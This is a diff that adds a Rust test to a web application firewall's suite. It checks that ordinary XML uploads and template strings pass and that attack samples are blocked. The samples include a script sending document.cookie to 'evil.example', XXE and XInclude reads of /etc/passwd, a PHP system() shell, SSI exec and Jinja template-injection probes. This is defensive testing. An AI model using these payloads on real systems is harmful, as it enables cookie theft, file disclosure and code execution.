@@ -3269,6 +3269,122 @@ fn blind_sets_classes_are_read_structurally_and_their_attacks_still_score() {
 }
 
 #[test]
+fn holdout35_to_38_shapes_pass_and_their_attacks_still_score() {
+    // Holdouts 35–38 (sets written blind): XML documents in their own vocabulary with namespace
+    // prefixes, processing instructions and CDATA (an XMP sidecar, an Android `strings.xml`, a
+    // TCX workout), a signed decimal after `~+`, and `request` read down plain attributes in a
+    // template. Each shape as an uploaded file (the documents) or a JSON field and a query
+    // argument, next to attacks written around the relaxed shape, which must block.
+    let waf = waf_with("{}");
+    let both = |v: &str| as_field_and_query(&waf, v);
+    let upload = |doc: &str, ty: &str| {
+        let body = format!(
+            "--B\r\nContent-Disposition: form-data; name=\"locale\"\r\n\r\nen\r\n--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"doc.xml\"\r\nContent-Type: {ty}\r\n\r\n{doc}\r\n--B--\r\n"
+        );
+        post("/files", "multipart/form-data; boundary=B", &body, &waf)
+    };
+    let xmp = "<?xpacket begin=\"\u{feff}\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>\n<x:xmpmeta xmlns:x=\"adobe:ns:meta/\" x:xmptk=\"Adobe XMP Core 7.0\">\n <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">\n  <rdf:Description rdf:about=\"\"\n    xmlns:dc=\"http://purl.org/dc/elements/1.1/\"\n    xmlns:photoshop=\"http://ns.adobe.com/photoshop/1.0/\"\n    photoshop:City=\"Essaouira\"\n    plus:ModelReleaseStatus=\"http://ns.useplus.org/ldf/vocab/MR-NON\">\n   <dc:title><rdf:Alt><rdf:li xml:lang=\"x-default\">Fishermen mending nets at dawn</rdf:li></rdf:Alt></dc:title>\n   <dc:creator><rdf:Seq><rdf:li>Youssef El Amrani</rdf:li></rdf:Seq></dc:creator>\n  </rdf:Description>\n </rdf:RDF>\n</x:xmpmeta>\n<?xpacket end=\"w\"?>";
+    let strings = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<resources xmlns:tools=\"http://schemas.android.com/tools\">\n    <string name=\"app_name\" translatable=\"false\">Trailpost</string>\n    <string name=\"onboarding_body\">We\\'ll suggest routes based on where you are &amp; how far you want to go.</string>\n    <string name=\"terms_html\"><![CDATA[By continuing you agree to our <a href=\"https://trailpost.example/terms\">Terms</a>.]]></string>\n    <plurals name=\"saved\">\n        <item quantity=\"one\">%d saved trail</item>\n    </plurals>\n    <string name=\"rationale\" tools:ignore=\"MissingTranslation\">Trailpost uses your location.</string>\n</resources>";
+    let tcx = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<TrainingCenterDatabase xmlns=\"http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2\" xmlns:ns3=\"http://www.garmin.com/xmlschemas/ActivityExtension/v2\">\n  <Activities><Activity Sport=\"Biking\"><Id>2025-10-05T06:30:00Z</Id>\n    <Lap StartTime=\"2025-10-05T06:30:00Z\"><Track>\n      <Trackpoint><Time>2025-10-05T06:30:00Z</Time><HeartRateBpm><Value>118</Value></HeartRateBpm>\n        <Extensions><ns3:TPX><ns3:Watts>180</ns3:Watts></ns3:TPX></Extensions></Trackpoint>\n    </Track></Lap></Activity></Activities>\n</TrainingCenterDatabase>";
+    for (doc, ty) in
+        [(xmp, "application/rdf+xml"), (strings, "application/xml"), (tcx, "application/vnd.garmin.tcx+xml")]
+    {
+        let o = upload(doc, ty);
+        assert!(!o.blocked, "{doc}: {o:?}");
+        for o in both(doc) {
+            assert!(!o.blocked, "{doc}: {o:?}");
+        }
+        assert!(context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
+    }
+    let res = |inner: &str| {
+        format!("<?xml version=\"1.0\"?>\n<resources>\n  <string name=\"a\">b</string>\n  {inner}\n</resources>")
+    };
+    for doc in [
+        // Markup after a CDATA section as an HTML parser reads it, or in it.
+        res("<string name=\"t\"><![CDATA[><iframe src=\"https://evil.example/\"></iframe>]]></string>"),
+        res("<string name=\"t\"><![CDATA[<a href=\"javascript:alert(1)\">x</a>]]></string>"),
+        res("<string name=\"t\"><![CDATA[<!--#exec cmd=\"id\"-->]]></string>"),
+        // A prefixed element whose local name acts, or a prefix bound to the XHTML or SVG namespace.
+        res("<h:iframe xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"></h:iframe>"),
+        res("<x:script>fetch('//evil.example/'+document.cookie)</x:script>"),
+        res("<s:g xmlns:s=\"http://www.w3.org/2000/svg\"><s:use href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></s:g>"),
+        res("<x:item x:onmouseover=\"location='//evil.example'\">b</x:item>"),
+        res("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>"),
+        // Processing instructions and comments that fetch or run.
+        "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?>\n<resources><string name=\"a\">b</string></resources>".to_string(),
+        "<?php system($_GET['c']); ?>\n<resources><string name=\"a\">b</string></resources>".to_string(),
+        res("<!--#exec cmd=\"id\"-->"),
+        format!("{}<?xpacket end=\"w\"?><script>alert(1)</script>", res("")),
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><resources><string name=\"a\">&x;</string></resources>".to_string(),
+    ] {
+        assert!(!context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
+        let o = upload(&doc, "application/xml");
+        assert!(o.blocked, "{doc}: {o:?}");
+        for o in both(&doc) {
+            assert!(o.blocked, "{doc}: {o:?}");
+        }
+    }
+    for v in [
+        // 3208: a signed decimal after `~+` is no directory-stack entry.
+        "Trend up ~+0.004/subgroup since the fixture swap; Cpk holds at 1.41.",
+        "~+1.5 dB",
+        // 3600: `request` read down plain attributes (a help desk's subject, a mock's response).
+        "Re: your request {{ request.number }} – {{ request.subject }}",
+        "{% if request.extension %}extended to {{ request.due_date }}{% endif %}{% if request.status != 'closed' and request.x %}.{% endif %}",
+        "Received {{ request.received_at | date: \"%b %-d, %Y\" }}; note: {{request.body.note | default: 'n/a'}}",
+        "{\"status\": 201, \"body\": {\"charged\": {{request.body.amount}}, \"id\": \"{{request.headers.X-Request-Id}}\"}}",
+        // 3305: a quoted word before words in parentheses (a glossary's note in a CSV).
+        "term,locale,translation,notes\ntrail,de,Weg,\"Not 'Pfad' (too narrow), not 'Tour'\"\n",
+        "Say 'Weg' (the general word) here.",
+    ] {
+        for o in both(v) {
+            assert!(!o.blocked, "{v}: {o:?}");
+        }
+    }
+    for v in [
+        "cat ~+/etc/passwd",
+        "~+5",
+        ";cat ~+1/x",
+        "ls ~+0",
+        "cd ~+",
+        "{{ request }}",
+        "{{ request.application.__globals__ }}",
+        "{{ request.environ }}",
+        "{{ request . application }}",
+        "{{ request.cookies.session }}",
+        "{{ request.headers.authorization }}",
+        "{{ request.META }}",
+        "{{ request._get_current_object() }}",
+        "{{ request.args.get('x') }}",
+        "{{ request|attr('application') }}",
+        "{{ request['application'] }}",
+        "{{ request.number|attr('x') }}",
+        "{{ request.args | attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
+        "{{ request.args[0] }}",
+        "{{ request.args.x }}",
+        "{{ request.form.cmd }}",
+        "{{ request | join('') }}",
+        "{% set x = request|join %}",
+        "{{ request.number }}{{ config.items() }}",
+        "{% set x = request.application %}",
+        "{% set x = request %}",
+        "{% if request.args.get('x') %}1{% endif %}",
+        "{% for c in request.cookies %}{{ c }}{% endfor %}",
+        "{% if request.x == request.environ %}1{% endif %}",
+        "'system'('id')",
+        "'system' (id)",
+        "'passthru' ($_GET[c])",
+        "'assert'(phpinfo())",
+        "x='system';'system' (ls -la)",
+        "'assert' (print 1)",
+    ] {
+        for o in both(v) {
+            assert!(o.blocked, "{v}: {o:?}");
+        }
+    }
+}
+
+#[test]
 fn holdout33_and_34_shapes_pass_and_their_attacks_still_score() {
     // Holdouts 33 and 34 (sets written blind): 3600 read the starred form of a LaTeX command
     // (`\section*{…}`) as a Thymeleaf selection `*{…}`. Each shape as a JSON field and as a query
